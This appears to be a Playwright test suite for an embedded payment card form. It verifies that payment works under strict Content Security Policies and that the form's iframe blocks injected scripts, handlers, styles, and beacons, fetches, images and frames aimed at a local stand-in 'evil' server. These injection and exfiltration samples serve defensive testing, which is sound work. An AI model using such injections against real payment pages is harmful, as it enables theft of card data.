/** Shops with the strictest policies: the form pays under each without a violation, which the watch fixture checks. */
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { findFirefox, MISSING } from '../browsers/find-browsers.mjs';
import { readManifest } from '../hosting/hosting.ts';
import { CARD, type CheckoutPage, checkoutPage } from '../support/checkout-page.ts';
import { expect, test } from '../support/fixtures.ts';
import { formFrame } from '../support/form-frame.ts';
import { listening } from '../support/listening.ts';
import type { MerchantPage } from '../support/merchant.ts';
import type { Intent, Service } from '../support/service.ts';

test.use({ knownBuyer: true });

const payIn = async (checkout: CheckoutPage, service: Service, intent: Intent) => {
  await checkout.fillCard(CARD.visa);
  await checkout.pay();
  await expect(checkout.outcome).toHaveText('Payment received');
  expect(await service.record(intent.id)).toMatchObject({ charges: 1, confirms: 1 });
};

/** Only the sources in docs/going-live.md and the page's own script and style, with Trusted Types required. */
const strict = (service: Service) =>
  [
    "default-src 'none'",
    `script-src 'self' ${service.url}/partner/v1/card-form.js ${service.url}/partner/v1/card-form/`,
    `frame-src ${service.url}/partner/v1/card-form/`,
    "style-src 'self'",
    'img-src data:',
    "base-uri 'none'",
    "form-action 'none'",
    "require-trusted-types-for 'script'",
    "trusted-types 'none'",
  ].join('; ');

test("threat-model C34: pays under default-src 'none', two lines for the form and Trusted Types", async ({
  open,
  service,
}) => {
  const intent = await service.createIntent();
  await payIn(await open(intent, { policy: strict(service) }), service, intent);
});

test('threat-model C12, C28: pays in every other strict shop', { tag: '@thorough' }, async ({
  open,
  page,
  service,
}) => {
  const { release, files } = await readManifest();
  const address = `/partner/v1/card-form/${release}/card-form.js`;
  const nonce = 'bWVyY2hhbnQ';
  const policy = [
    "default-src 'none'",
    `script-src 'nonce-${nonce}'`,
    `frame-src ${service.url}/partner/v1/card-form/`,
    "style-src 'self'",
    'img-src data:',
    "require-trusted-types-for 'script'",
  ].join('; ');
  const isolated = {
    'Cross-Origin-Embedder-Policy': 'require-corp',
    'Cross-Origin-Opener-Policy': 'same-origin',
  };
  const SHOPS: Record<string, MerchantPage> = {
    'a policy of nonces, which knows no address of a script': { policy, nonce },
    'the loader pinned to its release by integrity': {
      loaders: 0,
      body: `<main><div id="card-form"></div></main>
<script src="${service.url}${address}" integrity="${files[address]}" crossorigin></script>`,
    },
    'Referrer-Policy: no-referrer': { headers: { 'Referrer-Policy': 'no-referrer' } },
    'cross-origin isolated': { headers: isolated },
  };
  for (const [what, shop] of Object.entries(SHOPS)) {
    await test.step(what, async () => {
      const intent = await service.createIntent();
      await payIn(await open(intent, shop), service, intent);
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(shop.headers === isolated);
    });
  }
});

for (const engine of ['chromium', 'firefox'] as const) {
  test(`threat-model C12: pays if neither the shop nor its iframe sends a referrer: ${engine}`, {
    tag: '@thorough',
  }, async ({ context: ours, playwright, serve, service }) => {
    const firefox = engine === 'firefox' ? findFirefox() : null;
    test.skip(engine === 'firefox' && firefox === null, MISSING.firefox);
    const browser = firefox && (await playwright.firefox.launch(firefox.launchOptions));
    const context = browser ? await browser.newContext({ viewport: { width: 900, height: 1400 } }) : ours;
    await context.addInitScript(() => {
      const { prototype } = HTMLIFrameElement;
      Object.defineProperty(prototype, 'referrerPolicy', {
        set(this: HTMLIFrameElement) {
          this.setAttribute('referrerpolicy', 'no-referrer');
        },
      });
    });
    const page = await context.newPage();
    const referrers: unknown[] = [];
    page.on('request', (request) => {
      if (request.url().endsWith('/frame.html')) referrers.push(request.headers().referer);
    });
    const intent = await service.createIntent();
    await page.goto(serve(intent, { headers: { 'Referrer-Policy': 'no-referrer' } }));
    const checkout = checkoutPage(page);
    await payIn(checkout, service, intent);
    await expect(checkout.iframe).toHaveAttribute('referrerpolicy', 'no-referrer');
    expect(referrers).toEqual([undefined]);
    await browser?.close();
  });
}

test('threat-model C26, C80: the frame has its own process, and its policy stops injected content', async ({
  context,
  open,
  page,
  service,
  watch,
}) => {
  watch.expect(/CSP violation|Content Security Policy|Trusted(HTML|Script)|violates/);
  const checkout = await open(await service.createIntent());
  await checkout.ready();
  // Here the shop is on the service's own site, which Chromium does not isolate by default, just as it does not isolate
  // every site on a phone. A frame that shares the shop's process has no separate session.
  await expect(context.newCDPSession(formFrame(page))).resolves.toBeDefined();
  const reached: (string | undefined)[] = [];
  const stranger = createServer(({ url }, response) => {
    reached.push(url);
    response.end();
  });
  const { url, stop } = await listening(stranger);
  const evil = `${url}/`;
  const stopped = await checkout.frame.locator(':root').evaluate(
    async (root, [origin, evil]) => {
      const violated: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        violated.push(effectiveDirective),
      );
      const element = (tag: string, properties: object) => {
        root.append(Object.assign(document.createElement(tag), properties));
      };
      const attempts: Record<string, () => unknown> = {
        'a string as markup': () => {
          root.innerHTML = '<b>x</b>';
        },
        'a string as code': () => Function('return 1')(),
        'a policy for strings': () =>
          Reflect.apply(
            Reflect.get(window, 'trustedTypes').createPolicy,
            Reflect.get(window, 'trustedTypes'),
            ['default', {}],
          ),
        'a script in the document': () => {
          const script = document.createElement('script');
          script.append('globalThis.ran = true');
          root.append(script);
        },
        'a handler in the document': () => root.setAttribute('onclick', 'globalThis.ran = true'),
        'a script of another path': () =>
          element('link', { rel: 'modulepreload', href: `${origin}/partner/v1/card-form.js` }),
        'a style element': () => element('style', { textContent: 'body { color: red }' }),
        'a style attribute': () => root.setAttribute('style', 'color: red'),
        'an image': () => element('img', { src: `${evil}a.png` }),
        'a font': () => new FontFace('f', `url(${evil}a.woff2)`).load(),
        'a request': () => fetch(evil),
        'a request to the wrong path': () => fetch(`${origin}/partner/v1/payment_intents`),
        'a beacon': () => navigator.sendBeacon(evil, 'x'),
        'a page fetched ahead': () => element('link', { rel: 'prefetch', href: `${evil}next` }),
        'a frame': () => element('iframe', { src: evil }),
        'an object': () => element('object', { data: evil }),
        'a base': () => element('base', { href: evil }),
      };
      const result: Record<string, boolean> = {};
      for (const [name, attempt] of Object.entries(attempts)) {
        violated.length = 0;
        // Not in this call: the browser lets code through that a debugger evaluates.
        await new Promise<void>((resolve) => {
          setTimeout(async () => {
            try {
              await attempt();
            } catch {}
            resolve();
          });
        });
        const until = performance.now() + 2000;
        while (violated.length === 0 && performance.now() < until) {
          await new Promise((resolve) => setTimeout(resolve, 10));
        }
        result[name] = violated.length > 0;
      }
      return result;
    },
    [service.url, evil] as const,
  );
  await stop();
  expect(Object.entries(stopped).filter(([, was]) => !was)).toEqual([]);
  expect(Object.keys(stopped)).toHaveLength(17);
  expect(await checkout.frame.locator(':root').evaluate(() => 'ran' in globalThis)).toBe(false);
  expect(reached).toEqual([]);
});

/** The inline script of the document. */
const INLINE = /<script>[\s\S]*<\/script>/;

for (const [what, spoil] of [
  [
    "the frame's own script at another path",
    (html: string) =>
      html.replace(
        INLINE,
        '<script type="module" src="/partner/v1/card-form/another-release/assets/form.js"></script>',
      ),
  ],
  [
    'a script in the document whose hash the policy does not know',
    (html: string) => html.replace(INLINE, '<script>globalThis.ran = true</script>'),
  ],
] as const) {
  test(`threat-model C27: ${what} does not run`, {
    tag: what.startsWith('a script') ? [] : ['@thorough'],
  }, async ({ open, page, service, watch }) => {
    watch.expect(/CSP violation|Content Security Policy/);
    const violated: string[] = [];
    page.on('console', (message) => violated.push(message.text()));
    const { release } = await readManifest();
    const ran: string[] = [];
    await page.route(/\/card-form\/[^/]+\/frame\.html$/, async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      expect(spoil(html)).not.toBe(html);
      await route.fulfill({ response, body: spoil(html) });
    });
    await page.route(/another-release/, async (route) => {
      ran.push(route.request().url());
      await route.fulfill({
        response: await route.fetch({ url: route.request().url().replace('another-release', release) }),
      });
    });
    const intent = await service.createIntent();
    // On a busy machine the loader would give up on the frame before the test has looked at it.
    await page.clock.install({ time: 0 });
    await page.clock.pauseAt(1000);
    const checkout = await open(intent);
    await expect.poll(() => violated.join('\n')).toMatch(/CSP violation: script-src-elem/);
    const state = await checkout.frame.locator(':root').evaluate((root) => ({
      ran: 'ran' in globalThis,
      isShown: root.querySelector('.form')?.checkVisibility({ visibilityProperty: true }),
    }));
    expect(state).toEqual({ ran: false, isShown: false });
    expect(ran).toEqual([]);
    expect(await service.record(intent.id)).toMatchObject({ retrieves: 0 });
  });
}

test("threat-model C71: no script for browsers references a source map or contains the sandbox's control routes", {
  tag: '@thorough',
}, async ({ service }) => {
  const { files } = await readManifest();
  for (const address of Object.keys(files)) {
    expect((await fetch(`${service.url}${address}.map`)).status).toBe(404);
    const text = await (await fetch(`${service.url}${address}`)).text();
    expect(text.length, address).toBeGreaterThan(10);
    expect(text, address).not.toMatch(/sourceMappingURL|_sandbox\//);
  }
  expect(await readFile(new URL('../../dist/SCRIPTS.md', import.meta.url), 'utf8')).not.toContain('.map');
});
